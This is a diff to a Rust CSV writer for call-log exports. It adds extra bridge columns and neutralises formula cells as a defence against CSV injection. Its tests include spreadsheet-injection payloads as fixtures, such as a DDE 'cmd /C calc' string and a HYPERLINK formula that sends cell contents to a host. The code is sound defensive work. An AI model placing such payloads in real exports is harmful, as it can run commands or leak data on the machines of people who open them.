@@ -10,9 +10,10 @@
 //! Invariant: only this module decides the JSON shape of a record
 //! ([`Shape::Ecls`] or [`Shape::Ndjson`]) and how a record is written as a
 //! CSV row ([`Record::write_csv_row`], the Call Log Export's shape: every
-//! value as its text, RFC 4180 quoting). Which columns, in which order, is
-//! the caller's (the export's order is `parse::ecle_csv::NATURAL`, shared
-//! by the reader and the writer).
+//! value as its text, RFC 4180 quoting, and cells a spreadsheet would run
+//! as a formula neutralised: [`Formulas`]). Which columns, in which order,
+//! is the caller's (the export's order is `parse::ecle_csv::NATURAL`,
+//! shared by the reader and the writer).
 
 use std::borrow::Cow;
 
@@ -341,14 +342,31 @@ impl<'a> Record<'a> {
     /// (RFC 4180). Every value is written as its text, as the `ecls` shape
     /// does (numbers as the source spelled them, `-` kept, a missing value
     /// empty); a value holding a comma, a quote, CR or LF is quoted, with
-    /// quotes doubled. `ingestion_time` and `sync_delay_ms` are not columns
-    /// of the export.
-    pub fn write_csv_row(&self, columns: &[Field], out: &mut Vec<u8>) {
+    /// quotes doubled. With [`Formulas::Neutralised`], a cell a spreadsheet
+    /// would run as a formula is written as text (see
+    /// [`csv_cell_is_formula`]). `ingestion_time`, `sync_delay_ms` and
+    /// `host` are not columns of the export: with `bridge` they follow
+    /// `columns` ([`CSV_BRIDGE_COLUMNS`]: `ingestion_time` in epoch ms as
+    /// the `ecls` shape writes it, `sync_delay_ms`, `host`; empty where the
+    /// record has none).
+    pub fn write_csv_row(&self, columns: &[Field], bridge: bool, formulas: Formulas, out: &mut Vec<u8>) {
         for (i, &f) in columns.iter().enumerate() {
             if i > 0 {
                 out.push(b',');
             }
-            write_csv_value(out, self.get(f));
+            write_csv_cell(out, f.kind(), self.get(f), formulas);
+        }
+        if bridge {
+            out.push(b',');
+            if let Some(t) = self.ingestion_time {
+                push_i64(out, t);
+            }
+            out.push(b',');
+            if let Some(d) = self.sync_delay_ms {
+                push_i64(out, d);
+            }
+            out.push(b',');
+            write_csv_cell(out, Kind::Str, &self.host, formulas);
         }
         out.extend_from_slice(b"\r\n");
     }
@@ -387,29 +405,115 @@ pub fn write_ecls_message<'r, 'a: 'r>(records: impl IntoIterator<Item = &'r Reco
     out.extend_from_slice(b"]}");
 }
 
+/// The bridge's own columns a CSV row may carry after the export's
+/// ([`Record::write_csv_row`]), by header name.
+pub const CSV_BRIDGE_COLUMNS: [&str; 3] = ["ingestion_time", "sync_delay_ms", "host"];
+
 /// Appends the header row naming `columns` (schema names), terminated by
 /// CRLF: the row [`Record::write_csv_row`] writes under.
 pub fn write_csv_header(columns: &[Field], out: &mut Vec<u8>) {
-    for (i, f) in columns.iter().enumerate() {
+    write_csv_header_with(columns, false, out);
+}
+
+/// The same header, naming the bridge's columns after `columns` when
+/// `bridge`.
+pub fn write_csv_header_with(columns: &[Field], bridge: bool, out: &mut Vec<u8>) {
+    let bridge_names: &[&str] = if bridge { &CSV_BRIDGE_COLUMNS } else { &[] };
+    for (i, name) in columns.iter().map(|f| f.name()).chain(bridge_names.iter().copied()).enumerate() {
         if i > 0 {
             out.push(b',');
         }
-        out.extend_from_slice(f.name().as_bytes());
+        out.extend_from_slice(name.as_bytes());
     }
     out.extend_from_slice(b"\r\n");
 }
 
+/// How CSV cells that a spreadsheet would run as a formula are written
+/// ([`Record::write_csv_row`]).
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Formulas {
+    /// As text: such a cell gets a leading `'` and is quoted (OWASP's
+    /// advice against CSV injection); a value holding `;` or a tab is
+    /// quoted.
+    #[default]
+    Neutralised,
+    /// As the value is (for pipelines that need the raw values).
+    Verbatim,
+}
+
+/// The characters that make a spreadsheet read a cell as a formula when
+/// it starts with one (`=`, `+`, `-`, `@`, tab, carriage return).
+const FORMULA_START: [u8; 6] = [b'=', b'+', b'-', b'@', b'\t', b'\r'];
+
+/// True when the cell `v` of column `f` would be run as a formula by a
+/// spreadsheet, so [`Formulas::Neutralised`] writes it as text. The rule
+/// is per column:
+///
+/// - text columns (every [`Kind::Str`] field: user agent, referrer, URI,
+///   host, keys, names...; any of them may hold what an API caller sent):
+///   a value starting with `=`, `+`, `-`, `@`, tab or CR, except `-`
+///   alone, the schema's "absent";
+/// - numeric columns ([`Kind::Int`], [`Kind::Float`]): a value starting
+///   with one of those that is not a number (`-1` and `-0.5` stay
+///   numbers).
+///
+/// Idempotent: a neutralised cell starts with `'`, which is none of them.
+pub fn csv_cell_is_formula(f: Field, v: &str) -> bool {
+    is_formula(f.kind(), v)
+}
+
+/// [`csv_cell_is_formula`] for a column of kind `kind`.
+fn is_formula(kind: Kind, v: &str) -> bool {
+    let Some(first) = v.as_bytes().first() else { return false };
+    if !FORMULA_START.contains(first) || v == "-" {
+        return false;
+    }
+    match kind {
+        Kind::Str => true,
+        Kind::Int | Kind::Float => !is_json_number(v),
+    }
+}
+
+/// Appends one CSV cell of a column of kind `kind` (a text column of
+/// another table, such as `lag report --csv`'s host and file, is
+/// [`Kind::Str`]): with [`Formulas::Neutralised`], as text when a
+/// spreadsheet would run it as a formula ([`csv_cell_is_formula`]'s rule),
+/// otherwise as [`write_csv_value`] writes it.
+pub fn write_csv_cell(out: &mut Vec<u8>, kind: Kind, v: &str, formulas: Formulas) {
+    if formulas == Formulas::Neutralised && is_formula(kind, v) {
+        write_csv_quoted(out, b"'", v);
+    } else {
+        write_csv_value(out, v, formulas);
+    }
+}
+
 /// Appends one CSV value: as it is, or quoted (quotes doubled) when it
-/// holds a delimiter, a quote or a line break (RFC 4180 section 2).
-fn write_csv_value(out: &mut Vec<u8>, v: &str) {
+/// holds a delimiter, a quote or a line break (RFC 4180 section 2), and,
+/// with [`Formulas::Neutralised`], a separator of another reader (`;` in
+/// many locales, a tab for TSV imports): such a reader would otherwise
+/// start a cell inside the value, where a formula character may follow.
+fn write_csv_value(out: &mut Vec<u8>, v: &str, formulas: Formulas) {
     let b = v.as_bytes();
     // Two vectorised scans; nearly every value needs no quoting.
-    if memchr::memchr3(b',', b'"', b'\n', b).is_none() && memchr::memchr(b'\r', b).is_none() {
+    let more = match formulas {
+        Formulas::Neutralised => memchr::memchr3(b'\r', b';', b'\t', b),
+        Formulas::Verbatim => memchr::memchr(b'\r', b),
+    };
+    if more.is_none() && memchr::memchr3(b',', b'"', b'\n', b).is_none() {
         out.extend_from_slice(b);
         return;
     }
-    out.reserve(b.len() + 4);
+    write_csv_quoted(out, b"", v);
+}
+
+/// Appends one CSV value quoted whatever it holds, `prefix` first inside
+/// the quotes (quotes in `prefix` are not doubled: it is the writer's, not
+/// the value's).
+fn write_csv_quoted(out: &mut Vec<u8>, prefix: &[u8], v: &str) {
+    let b = v.as_bytes();
+    out.reserve(b.len() + prefix.len() + 4);
     out.push(b'"');
+    out.extend_from_slice(prefix);
     let mut start = 0;
     while let Some(i) = memchr::memchr(b'"', &b[start..]) {
         out.extend_from_slice(&b[start..start + i + 1]);
@@ -716,7 +820,7 @@ mod tests {
     fn csv_values_quoted_only_when_needed() {
         fn check(v: &str, expected: &str) {
             let mut out = Vec::new();
-            write_csv_value(&mut out, v);
+            write_csv_value(&mut out, v, Formulas::Verbatim);
             assert_eq!(std::str::from_utf8(&out).unwrap(), expected, "{v:?}");
         }
         check("", "");
@@ -742,11 +846,84 @@ mod tests {
         let cols = [Field::RequestUuid, Field::Bytes, Field::UserAgent, Field::RequestTime, Field::OrgName];
         let mut out = Vec::new();
         write_csv_header(&cols, &mut out);
-        r.write_csv_row(&cols, &mut out);
+        r.write_csv_row(&cols, false, Formulas::Neutralised, &mut out);
         assert_eq!(
             std::str::from_utf8(&out).unwrap(),
             "request_uuid,bytes,user_agent,request_time,org_name\r\nu1,113,\"ua, \"\"x\"\"\",2019-04-19T21:56:43Z,\r\n"
         );
+        // With the bridge's columns, read back by the export's reader.
+        r.host = Cow::Borrowed("edge, 1");
+        let cols = &crate::parse::ecle_csv::NATURAL[..35];
+        let mut out = Vec::new();
+        write_csv_header_with(cols, true, &mut out);
+        r.write_csv_row(cols, true, Formulas::Neutralised, &mut out);
+        let text = String::from_utf8(out).unwrap();
+        assert!(text.lines().nth(1).unwrap().ends_with(",1555711021034,17966,\"edge, 1\""), "{text}");
+        let mut p = crate::parse::LineParser::new(crate::parse::Format::Auto, 1 << 20);
+        p.keep_bridge_fields();
+        let mut got = Vec::new();
+        for line in text.lines() {
+            p.parse_line(line.as_bytes(), &mut got).unwrap();
+        }
+        assert_eq!((got[0].ingestion_time, got[0].sync_delay_ms, &*got[0].host), (Some(1_555_711_021_034), Some(17_966), "edge, 1"));
+        // Without keeping them, the export's reader ignores them.
+        let mut p = crate::parse::LineParser::new(crate::parse::Format::Auto, 1 << 20);
+        let mut got = Vec::new();
+        for line in text.lines() {
+            p.parse_line(line.as_bytes(), &mut got).unwrap();
+        }
+        assert_eq!((got[0].ingestion_time, got[0].sync_delay_ms, &*got[0].host), (None, None, ""));
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_neutralised_per_column() {
+        fn check(f: Field, v: &str, neutralised: &str, verbatim: &str) {
+            let mut r = Record::new_ml();
+            r.set(f, v.to_string());
+            for (formulas, want) in [(Formulas::Neutralised, neutralised), (Formulas::Verbatim, verbatim)] {
+                let mut out = Vec::new();
+                r.write_csv_row(&[f], false, formulas, &mut out);
+                assert_eq!(std::str::from_utf8(&out).unwrap(), format!("{want}\r\n"), "{f:?} {v:?} {formulas:?}");
+            }
+        }
+        let ua = Field::UserAgent;
+        check(
+            ua,
+            "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"",
+            "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"",
+        );
+        check(ua, "+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"", "+1+cmd|' /C calc'!A0");
+        check(Field::Referrer, "-2+3", "\"'-2+3\"", "-2+3");
+        check(Field::Uri, "@SUM(1)", "\"'@SUM(1)\"", "@SUM(1)");
+        check(Field::RequestHostName, "\t=1", "\"'\t=1\"", "\t=1");
+        check(Field::ApiKey, "\r=1", "\"'\r=1\"", "\"\r=1\"");
+        // Text columns: `-` alone is "absent"; anything else starting with
+        // `-` is caller text.
+        check(ua, "-", "-", "-");
+        check(ua, "", "", "");
+        check(ua, "-5", "\"'-5\"", "-5");
+        check(ua, "'=1", "'=1", "'=1");
+        check(ua, "Mozilla/5.0 (a=b)", "Mozilla/5.0 (a=b)", "Mozilla/5.0 (a=b)");
+        // Another reader's separator: quoted, so no cell starts inside.
+        check(ua, "a;=1+1", "\"a;=1+1\"", "a;=1+1");
+        check(ua, "a\t=1+1", "\"a\t=1+1\"", "a\t=1+1");
+        // Numeric columns: numbers (negative ones too) and "absent" stay.
+        check(Field::QuotaValue, "-1", "-1", "-1");
+        check(Field::TotalRequestExecTime, "-0.5", "-0.5", "-0.5");
+        check(Field::Bytes, "-", "-", "-");
+        check(Field::Bytes, "-1+cmd", "\"'-1+cmd\"", "-1+cmd");
+        check(Field::HttpStatusCode, "=1", "\"'=1\"", "=1");
+        // Idempotent: a neutralised value read back and written again.
+        assert!(!csv_cell_is_formula(Field::UserAgent, "'=1"));
+        // The bridge's `host` column is a text column.
+        let mut r = Record::new_ml();
+        r.host = Cow::Borrowed("=cmd");
+        for (formulas, want) in [(Formulas::Neutralised, ",,\"'=cmd\"\r\n"), (Formulas::Verbatim, ",,=cmd\r\n")] {
+            let mut out = Vec::new();
+            r.write_csv_row(&[Field::RequestUuid], true, formulas, &mut out);
+            assert!(out.ends_with(want.as_bytes()), "{formulas:?}: {}", String::from_utf8_lossy(&out));
+        }
     }
 
     #[test]
